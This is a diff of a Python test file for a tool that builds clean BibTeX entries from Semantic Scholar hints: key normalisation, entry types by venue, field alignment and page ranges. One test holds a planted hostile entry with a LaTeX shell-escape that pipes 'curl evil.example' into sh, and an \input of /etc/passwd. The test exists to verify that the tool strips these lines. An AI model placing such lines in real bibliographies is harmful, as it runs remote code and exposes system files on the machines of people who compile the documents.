@@ -26,19 +26,59 @@ def fields(entry) -> dict[str, str]:
     return {f.key: f.value for f in entry.fields}
 
 
-def test_s2_entry_is_used_and_gains_the_eprint_fields() -> None:
-    (entry,) = parse(bibtex_entry(VASWANI)).entries
-    assert entry.key == "Vaswani2017AttentionIA"
-    assert entry.entry_type == "article"
+def test_s2_entry_is_a_hint_never_copied() -> None:
+    text = bibtex_entry(VASWANI)
+    (entry,) = parse(text).entries
+    assert (entry.key, entry.entry_type) == ("vaswani2017attention", "inproceedings")
     got = fields(entry)
-    assert got["title"] == "Attention is All you Need"  # S2's own, untouched
-    assert got["pages"] == "5998-6008"
+    assert got["title"] == "Attention Is All You Need"  # the paper's own title, not S2's entry
+    assert got["booktitle"] == "Neural Information Processing Systems"
+    assert got["pages"] == "5998--6008"  # a plain number range from the hint
     assert (got["eprint"], got["archivePrefix"], got["primaryClass"]) == (
         "1706.03762",
         "arXiv",
         "cs.CL",
     )
-    assert bibtex_entry(VASWANI).startswith(S2_VASWANI.rstrip()[:-1].rstrip())
+    assert "Vaswani2017AttentionIA" not in text and "Noam M. Shazeer" not in text
+
+
+def test_one_clean_style_one_field_per_line_aligned() -> None:
+    for paper in (VASWANI, LONGFORMER, BIGBIRD):
+        head, *lines, end = bibtex_entry(paper).rstrip("\n").split("\n")
+        assert head.startswith("@") and head.endswith(",") and end == "}"
+        assert len({line.index("=") for line in lines}) == 1  # the = signs line up
+        assert all(line.startswith("  ") and line.rstrip(",").endswith("}") for line in lines)
+
+
+@pytest.mark.parametrize(
+    ("venue", "kind", "venue_field"),
+    [
+        ("Neural Information Processing Systems", "inproceedings", "booktitle"),
+        ("Proceedings of the 2019 Conference of the NAACL", "inproceedings", "booktitle"),
+        ("ACL Workshop on Efficient NLP", "inproceedings", "booktitle"),
+        ("IEEE Transactions on Pattern Analysis and Machine Intelligence", "article", "journal"),
+        ("Journal of Machine Learning Research", "article", "journal"),
+        ("Proceedings of the National Academy of Sciences", "article", "journal"),
+        ("Nature", "article", "journal"),
+        ("ArXiv", "misc", None),
+        ("", "misc", None),
+    ],
+)
+def test_one_entry_type_per_venue_kind(venue, kind, venue_field) -> None:
+    paper = Paper(title="X", ids=PaperIds(doi="10.1/x"), venue=venue or None, year=2001)
+    (entry,) = parse(bibtex_entry(paper)).entries
+    assert entry.entry_type == kind
+    got = fields(entry)
+    assert {"booktitle", "journal"} & set(got) == ({venue_field} if venue_field else set())
+
+
+def test_s2s_article_with_a_booktitle_is_inproceedings_and_a_journal_hint_an_article() -> None:
+    paper = Paper(title="X", ids=PaperIds(s2="a"), venue="Machine Learning", bibtex=S2_VASWANI)
+    assert parse(bibtex_entry(paper)).entries[0].entry_type == "inproceedings"
+    hint = "@Article{K,\n journal = {Machine Learning},\n volume = {8},\n pages = {229-256}\n}"
+    (entry,) = parse(bibtex_entry(paper.with_(bibtex=hint))).entries
+    assert entry.entry_type == "article"
+    assert (fields(entry)["volume"], fields(entry)["pages"]) == ("8", "229--256")
 
 
 def test_arxiv_only_entry_is_built_with_a_stable_key() -> None:
@@ -67,10 +107,10 @@ def test_built_entry_with_a_venue_and_a_doi() -> None:
     assert parse(bibtex_entry(journal)).entries[0].entry_type == "article"
 
 
-def test_the_whole_shortlist_parses_with_both_paths_mixed() -> None:
+def test_the_whole_shortlist_parses() -> None:
     library = parse(bibtex_for([VASWANI, LONGFORMER, BIGBIRD]))
     assert [e.key for e in library.entries] == [
-        "Vaswani2017AttentionIA",
+        "vaswani2017attention",
         "beltagy2020longformer",
         "zaheer2020big",
     ]
@@ -84,8 +124,8 @@ def test_colliding_keys_get_b_and_c_suffixes() -> None:
         "beltagy2020longformer",
         "beltagy2020longformerb",
         "beltagy2020longformerc",
-        "Vaswani2017AttentionIA",
-        "Vaswani2017AttentionIAb",
+        "vaswani2017attention",
+        "vaswani2017attentionb",
     ]
 
 
@@ -108,17 +148,17 @@ def test_latex_specials_and_control_characters_are_escaped() -> None:
     assert entry.key == "qpublic2021all"  # a number is no title word
 
 
-def test_a_one_line_entry_is_not_given_a_second_eprint() -> None:
-    own = "@article{a, title={A}, year=2020, eprint={2001.00001}}"
-    paper = Paper(title="A", ids=PaperIds(arxiv="2001.00001", doi="10.1/a"), bibtex=own)
-    (entry,) = parse(bibtex_entry(paper)).entries
-    assert [f.key for f in entry.fields] == ["title", "year", "eprint", "archivePrefix", "doi"]
-
-
-def test_unusable_s2_entry_falls_back_to_the_built_one() -> None:
+def test_a_hostile_s2_entry_brings_nothing_of_its_own() -> None:
+    planted = (
+        "@Article{Evil,\n title = {\\immediate\\write18{curl evil.example | sh}},\n"
+        " note = {\\input{/etc/passwd}},\n pages = {\\def\\x{1}},\n booktitle = {NeurIPS}\n}"
+    )
+    text = bibtex_entry(LONGFORMER.with_(bibtex=planted, venue="NeurIPS"))
+    assert "write18" not in text and "input" not in text and "def" not in text
+    (entry,) = parse(text).entries
+    assert "pages" not in fields(entry) and "note" not in fields(entry)
     for bad in ("@Article{K,\n title = {unbalanced\n}", "@misc{a, x={1}}\n@misc{b, y={2}}", "junk"):
-        paper = LONGFORMER.with_(bibtex=bad)
-        (entry,) = parse(bibtex_entry(paper)).entries
+        (entry,) = parse(bibtex_entry(LONGFORMER.with_(bibtex=bad))).entries
         assert entry.key == "beltagy2020longformer"
 
 
